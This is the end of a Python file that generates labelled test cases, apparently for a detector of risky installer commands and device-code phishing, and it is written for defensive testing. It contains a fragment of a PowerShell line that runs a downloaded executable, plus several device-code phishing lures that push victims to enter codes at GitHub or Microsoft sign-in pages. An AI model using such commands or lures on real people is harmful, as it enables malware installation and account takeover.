     "$env:TEMP\\h.exe; Start-Process $env:TEMP\\h.exe", TERMINAL, None, "flagged"),
]  # fmt: skip


def installers(book: Book) -> None:
    for i, text in enumerate(BESIDE_UNFETCHED):
        book.add("installer-beside-unfetched-address", text, "not_flagged", "any",
                 (UNKNOWN, TERMINAL)[i % 2], (README, None)[i % 2])  # fmt: skip
    for text in BESIDE_UNFETCHED_LOOKALIKES:
        book.add("installer-beside-unfetched-address-lookalike", text, "flagged", "any", TERMINAL)
    for i, text in enumerate(QUIET_INSTALLERS):
        book.add("installer-output-discarded", text, "not_flagged", "any",
                 (UNKNOWN, TERMINAL)[i % 2], (WIKI_OPS, None)[i % 2])  # fmt: skip
    for text in QUIET_LOOKALIKES:
        book.add("installer-output-discarded-lookalike", text, "flagged", "any", TERMINAL)
    for i, text in enumerate(VS_LINKS):
        book.add("installer-vs-redist-link", text, "not_flagged", "windows",
                 (UNKNOWN, TERMINAL)[i % 2], (DOCKERFILE, None)[i % 2])  # fmt: skip
    for text, target, page, expect in VS_LINK_LOOKALIKES:
        book.add("installer-vs-redist-link-lookalike", text, expect, "windows", target, page)


# -- a CLI's own device sign-in output, copied with the command that printed it ------------------

TUNNELS_DOCS = "https://code.visualstudio.com/docs/remote/tunnels"
GRANT = "To grant access to the server, please log into"
CLI_OUTPUTS = [
    f"code tunnel\n# {GRANT} https://github.com/login/device and use code 3F2A-11BC",
    f"PS C:\\dev> code tunnel\n{GRANT} https://github.com/login/device and use code 9C1D-7E42",
    f"code-insiders tunnel --accept-server-license-terms\n* {GRANT} "
    "https://github.com/login/device and use code A1B2-C3D4",
    f"$ code tunnel --name lab-box\n{GRANT} https://github.com/login/device and use code 7D3E-A9F0",
    f"code.exe tunnel\n* {GRANT} https://github.com/login/device and use code 4C2B-88E1",
    f"> code tunnel\n{GRANT} https://microsoft.com/devicelogin and use code F7K2M9QX",
    f"user@build:~$ code tunnel\n{GRANT} https://github.com/login/device and use code 1A2B-3C4D",
    f"code tunnel --accept-server-license-terms --name ci-runner\n{GRANT} "
    "https://github.com/login/device and use code 5E6F-7A8B",
    f"C:\\tools> code tunnel\n# {GRANT} https://github.com/login/device and use code B7C8-D9E0",
    f"code-insiders tunnel\n{GRANT} https://github.com/login/device and use code 0F1E-2D3C",
]
CLI_OUTPUT_LOOKALIKES = [
    "Please log into https://github.com/login/device and use code 3F2A-11BC to join the review.",
    "Join our code tunnel: log into https://github.com/login/device and use code 3F2A-11BC",
    "To review the build, open the code tunnel. Please log into https://github.com/login/device "
    "and use code 3F2A-11BC",
    "code tunnel\nTo join the meeting, log into https://github.com/login/device and use code "
    "3F2A-11BC",
    "code tunnel\nUrgent: your account will be suspended. Log into "
    "https://github.com/login/device and use code 3F2A-11BC now",
    "Your code tunnel session expired. Log into https://github.com/login/device and use code "
    "3F2A-11BC to restore access.",
    "Meeting access: go to https://microsoft.com/devicelogin and enter code F7K2M9QX",
    "IT support: run code tunnel, then log into https://github.com/login/device and use code "
    "3F2A-11BC so we can fix your laptop.",
    f"Invoice #5521 attached.\n{GRANT} https://github.com/login/device and use code 3F2A-11BC",
    f"{GRANT} https://github.com/login/device and use code 3F2A-11BC",
]


def device_codes(book: Book) -> None:
    for i, text in enumerate(CLI_OUTPUTS):
        book.add("device-code-cli-output", text, "not_flagged", "any", UNKNOWN,
                 (TUNNELS_DOCS, None)[i % 2])  # fmt: skip
    for i, text in enumerate(CLI_OUTPUT_LOOKALIKES):
        book.add("device-code-cli-output-lookalike", text, "flagged", "any", UNKNOWN,
                 (None, "https://chat.team-space.example/c/42")[i % 2])  # fmt: skip


def build() -> list[dict[str, str]]:
    book = Book("b16b")
    run_box(book)
    security_texts(book)
    installers(book)
    device_codes(book)
    return book.cases


CASES = build()


def main() -> None:
    write(OUT, CASES)


if __name__ == "__main__":
    main()
